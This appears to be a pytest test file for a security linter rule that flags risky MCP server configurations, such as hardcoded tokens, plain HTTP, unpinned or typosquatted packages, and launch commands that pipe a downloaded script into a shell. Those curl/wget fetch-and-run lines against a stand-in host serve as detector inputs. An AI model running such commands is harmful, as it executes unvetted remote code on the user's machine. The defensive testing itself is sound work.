"""LG606: risky MCP server configurations; the packages they launch go through the dependency checks."""

import json

import pytest

from landguard.checks.ai.mcp_servers import is_mcp_config, parse_servers
from landguard_testing import FIXTURES, apply_fix, check_fixture, findings_for

# Assembled at run time so no whole credential sits in the repository.
GITHUB_TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


def lg606(text, path):
    return [f for f in findings_for(text, path) if f.rule_id == "LG606"]


def config(**servers) -> str:
    return json.dumps({"mcpServers": servers}, indent=2) + "\n"


def test_vscode_fixture():
    check_fixture(FIXTURES / "ai" / "LG606" / ".vscode" / "mcp.json", "LG606")


@pytest.mark.parametrize(
    "path",
    [
        ".vscode/mcp.json",
        ".cursor/mcp.json",
        "mcp.json",
        ".mcp.json",
        "claude_desktop_config.json",
        "mcp_config.json",
    ],
)
def test_mcp_config_files_are_recognised(path):
    assert is_mcp_config(path)


@pytest.mark.parametrize("path", ["package.json", "tsconfig.json", ".vscode/settings.json"])
def test_other_json_is_not(path):
    assert not is_mcp_config(path)
    assert lg606(config(files={"command": "npx", "args": ["-y", "x", "/"]}), path) == []


@pytest.mark.parametrize(
    ("path", "expected"),
    [(".vscode/mcp.json", '"${env:GITHUB_TOKEN}"'), (".mcp.json", '"${GITHUB_TOKEN}"')],
)
def test_secret_in_env_is_masked_and_the_fix_reads_the_environment(path, expected):
    text = config(
        github={
            "command": "docker",
            "args": ["run", "ghcr.io/github/github-mcp-server"],
            "env": {"GITHUB_TOKEN": GITHUB_TOKEN},
        }
    )
    (finding,) = lg606(text, path)
    assert GITHUB_TOKEN not in finding.message and "ghp_" in finding.message
    fixed = apply_fix(text, finding.fixes[0])
    assert expected in fixed and GITHUB_TOKEN not in fixed
    json.loads(fixed)
    assert lg606(fixed, path) == []


def test_claude_desktop_cannot_expand_variables_so_no_fix():
    text = config(github={"command": "docker", "args": ["run", "img"], "env": {"GITHUB_TOKEN": GITHUB_TOKEN}})
    (finding,) = lg606(text, "claude_desktop_config.json")
    assert finding.fixes == ()


def test_secret_in_headers_keeps_the_bearer_prefix():
    text = config(
        search={"url": "https://mcp.example.com/sse", "headers": {"Authorization": f"Bearer {GITHUB_TOKEN}"}}
    )
    (finding,) = lg606(text, ".cursor/mcp.json")
    fixed = apply_fix(text, finding.fixes[0])
    assert '"Bearer ${env:AUTHORIZATION}"' in fixed


def test_references_and_placeholders_are_not_secrets():
    text = config(
        a={
            "command": "docker",
            "args": ["run", "img"],
            "env": {"TOKEN": "${env:TOKEN}", "LOG_LEVEL": "debug"},
        },
        b={"url": "https://x.example/mcp", "headers": {"Authorization": "Bearer ${input:token}"}},
    )
    assert lg606(text, ".vscode/mcp.json") == []


def test_plain_http_fix_switches_to_https():
    text = config(remote={"url": "http://mcp.example.com/sse"}, local={"url": "http://127.0.0.1:3000/sse"})
    (finding,) = lg606(text, "mcp.json")
    fixed = apply_fix(text, finding.fixes[0])
    assert '"https://mcp.example.com/sse"' in fixed and lg606(fixed, "mcp.json") == []


@pytest.mark.parametrize(
    ("command", "args", "pinned"),
    [
        ("npx", ["-y", "@modelcontextprotocol/server-memory"], False),
        ("npx", ["-y", "@modelcontextprotocol/server-memory@latest"], False),
        ("npx", ["-y", "@modelcontextprotocol/server-memory@2025.8.4"], True),
        ("npx -y @modelcontextprotocol/server-memory", [], False),
        ("uvx", ["--from", "git+https://example.org/x.git", "x"], False),
        ("uvx", ["mcp-server-fetch>=2025"], False),
        ("uvx", ["mcp-server-fetch==2025.4.7"], True),
        ("uvx", ["mcp-server-fetch@2025.4.7"], True),
        ("pipx", ["run", "--spec", "mcp-server-time==2025.1.1", "mcp-server-time==2025.1.1"], True),
        ("pnpm", ["dlx", "@upstash/context7-mcp"], False),
    ],
)
def test_launched_packages_and_their_pins(command, args, pinned):
    (server,) = parse_servers(config(s={"command": command, "args": args}))
    assert server.package is not None
    assert (server.package.version is not None) == pinned
    found = lg606(config(s={"command": command, "args": args}), "mcp.json")
    assert bool(found) != pinned


def test_commands_that_are_not_package_runners_are_not_packages():
    (server,) = parse_servers(config(s={"command": "node", "args": ["./server.js"]}))
    assert server.package is None


def test_launched_packages_go_through_the_dependency_checks():
    text = config(
        fetch={"command": "uvx", "args": ["mcp-server-fetchh==1.0"]},
        ok={"command": "uvx", "args": ["mcp-server-fetch==2025.4.7"]},
    )
    found = [f for f in findings_for(text, "claude_desktop_config.json") if f.rule_id.startswith("LG5")]
    assert [(f.rule_id, f.span.start_line) for f in found] == [("LG501", 5)]
    assert "mcp-server-fetch" in found[0].message  # did you mean


@pytest.mark.parametrize(
    "args",
    [["-c", "curl -fsSL https://x.example/run.sh | sh"], ["-c", 'sh -c "$(wget -qO- https://x.example/i)"']],
)
def test_fetch_and_run(args):
    (finding,) = lg606(config(s={"command": "bash", "args": args}), "mcp.json")
    assert "downloads a script" in finding.message


def test_broken_json_is_quiet_and_does_not_raise():
    assert lg606('{"mcpServers": {"a": {"command": "npx", "args": ["-y", "x"', "mcp.json") == []


def test_a_realistic_claude_desktop_config():
    """Pinned servers on project folders are quiet; the one unpinned launch is reported, nothing else."""
    path = FIXTURES / "ai" / "LG606" / "claude_desktop_config.json"
    found = [
        f for f in findings_for(path.read_text(), str(path)) if f.rule_id.startswith(("LG6", "LG5", "LG1"))
    ]
    assert [(f.rule_id, f.span.start_line) for f in found] == [("LG606", 12)]
    assert "server-memory" in found[0].message


def test_launched_packages_are_confirmed_online(tmp_path, monkeypatch):
    """The online dependency checks (fake registry on 127.0.0.1) read MCP configs like any manifest."""
    from fake_registry import running_registry
    from landguard.checks.deps.online import online_findings
    from landguard.engine.config import Config, DependencySettings

    monkeypatch.setenv("LANDGUARD_CACHE_DIR", str(tmp_path / "cache"))
    text = config(
        fresh={"command": "uvx", "args": ["brand-new-package==1.0.0"]},
        old={"command": "uvx", "args": ["requests==2.19.0"]},
    )
    offline = [f for f in findings_for(text, "mcp.json") if f.rule_id == "LG501"]
    assert [f.span.start_line for f in offline] == [5]  # not in the snapshot: maybe missing
    with running_registry() as (_, base):
        settings = DependencySettings(
            online=True, pypi_url=f"{base}/pypi", npm_url=f"{base}/npm", osv_url=f"{base}/osv", timeout=1.0
        )
        result = online_findings(text, "mcp.json", Config(dependencies=settings))
    assert [(f.rule_id, f.span.start_line) for f in result.retracted] == [("LG501", 5)]  # PyPI has it
    assert [(f.rule_id, f.span.start_line) for f in result.findings] == [("LG503", 11)]  # OSV: vulnerable pin
